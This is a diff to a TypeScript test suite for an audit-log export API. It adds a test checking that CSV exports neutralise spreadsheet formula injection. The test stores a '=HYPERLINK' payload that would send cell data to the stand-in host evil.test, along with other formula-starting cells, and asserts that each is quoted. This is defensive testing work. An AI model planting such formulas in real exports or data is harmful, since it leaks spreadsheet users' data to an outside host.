@@ -5,7 +5,7 @@ import { randomUUID } from 'node:crypto';
 import { after, before, describe, it } from 'node:test';
 import { backends, testApp, type TestApp } from '../../test/support/app.js';
 import { createApiKey, createOrg, createPartner, createUser, type TestOrg, type TestUser } from '../../test/support/factory.js';
-import { as, assertProblem, login, type Session } from '../../test/support/clients.js';
+import { as, assertProblem, login, type Session, loginWithMfa } from '../../test/support/clients.js';
 import type { Database } from '../db/database.js';
 import { SYSTEM_SCOPE, withTenant } from '../db/tenant-scope.js';
 import type { Caller } from '../http/auth.js';
@@ -68,7 +68,7 @@ for (const backend of backends()) {
       u.partner = await createUser(t.db, { scope: 'partner', partnerId: partner.id });
       u.outsider = await createUser(t.db, { scope: 'partner', partnerId: other.id });
       u.system = await createUser(t.db, { scope: 'system' });
-      for (const [k, user] of Object.entries(u)) s[k] = await login(t.app, user);
+      for (const [k, user] of Object.entries(u)) s[k] = await loginWithMfa(t.app, user, t.clock);
       // Changes through the API, and a row with every awkward value the CSV must quote.
       await as(t.app, s.a!)({ method: 'PATCH', url: `/api/v1/users/${u.readonly!.id}`, payload: { name: 'Renamed Reader' } });
       await as(t.app, s.b!)({ method: 'PATCH', url: `/api/v1/users/${u.b!.id}`, payload: { name: 'B itself' } });
@@ -145,6 +145,51 @@ for (const backend of backends()) {
       assert.equal(fields.actorId!.value, '');
     });
 
+    it('neutralises every cell a spreadsheet would run as a formula, in a way that undoes exactly', async () => {
+      // The attack: a user agent is stored as sent, and a spreadsheet opening the CSV runs it.
+      const hyperlink = '=HYPERLINK("http://evil.test/?d="&A1,"Open")';
+      const patched = await as(t.app, s.a!)({ method: 'PATCH', url: `/api/v1/users/${u.readonly!.id}`, headers: { 'user-agent': hyperlink }, payload: { name: 'Formula Victim' } });
+      assert.equal(patched.statusCode, 200, patched.body);
+      const record = createAuditRecorder({ now: t.clock.now, onRecorded: () => {} });
+      const stored = { resourceName: '@SUM(1+1)', actorEmail: '+1-555-0100', errorMessage: "'-already quoted", userAgent: '\t=cmd' };
+      await withTenant(t.db, SYSTEM_SCOPE, (tx) =>
+        record(tx, {
+          orgId: orgA.id,
+          actor: { type: 'system', id: null, email: stored.actorEmail },
+          action: 'policy.evaluate',
+          resource: { type: 'policy', id: randomUUID(), name: stored.resourceName },
+          details: { formula: '=1+1' },
+          userAgent: stored.userAgent,
+          result: 'failure',
+          errorMessage: stored.errorMessage,
+        }),
+      );
+      await t.app.auditSealer.sealNow(); // the json and csv exports below must see the same chain fields
+      const undo = (cell: string) => (/^'+[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
+      for (const action of ['user.update', 'policy.evaluate']) {
+        const { data } = await jsonExport('a', `action=${action}`);
+        const [header, ...records] = parseCsv((await exportAs('a', `format=csv&action=${action}`)).body);
+        assert.equal(records.length, data.length);
+        records.forEach((fields, i) => {
+          for (const [c, column] of header!.map((h) => h.value).entries()) {
+            const cell = fields[c]!.value;
+            assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${action} ${column} starts a formula: ${cell}`);
+            const value = data[i]![column];
+            if (value !== null && column !== 'details') assert.equal(undo(cell), String(value), `${column} undoes to the stored value`);
+          }
+        });
+        const cells = records.map((fields) => Object.fromEntries(header!.map((h, c) => [h.value, fields[c]!.value])));
+        if (action === 'user.update') assert.ok(cells.some((c) => c.userAgent === `'${hyperlink}`), 'the user agent is kept, behind a quote');
+        else {
+          assert.deepEqual(
+            { resourceName: cells[0]!.resourceName, actorEmail: cells[0]!.actorEmail, errorMessage: cells[0]!.errorMessage, userAgent: cells[0]!.userAgent },
+            { resourceName: "'@SUM(1+1)", actorEmail: "'+1-555-0100", errorMessage: "''-already quoted", userAgent: "'\t=cmd" },
+          );
+          assert.deepEqual(JSON.parse(cells[0]!.details!), { formula: '=1+1' }, 'details stays JSON text');
+        }
+      }
+    });
+
     it('applies the /logs filters: user, action, resource and dates, literally and case-insensitively', async () => {
       const byUser = await jsonExport('a', `user=${encodeURIComponent(u.a!.email.toUpperCase())}`);
       assert.ok(byUser.count >= 2 && byUser.data.every((e) => e.actorEmail === u.a!.email));
@@ -172,7 +217,7 @@ for (const backend of backends()) {
       const everyOrg = new Set((await jsonExport('system', 'action=user.update')).data.map((e) => e.orgId));
       assert.ok(everyOrg.has(orgA.id) && everyOrg.has(orgB.id), 'system scope: every organization');
       const partnerLogins = await jsonExport('system', `user=${encodeURIComponent(u.partner!.email)}&action=user.login`);
-      assert.deepEqual(partnerLogins.data.map((e) => e.orgId), [null], 'and the platform chain');
+      assert.ok(partnerLogins.count > 0 && partnerLogins.data.every((e) => e.orgId === null), 'and the platform chain');
       const platform = await jsonExport('system', 'orgId=platform');
       assert.ok(platform.count > 0 && platform.data.every((e) => e.orgId === null));
     });
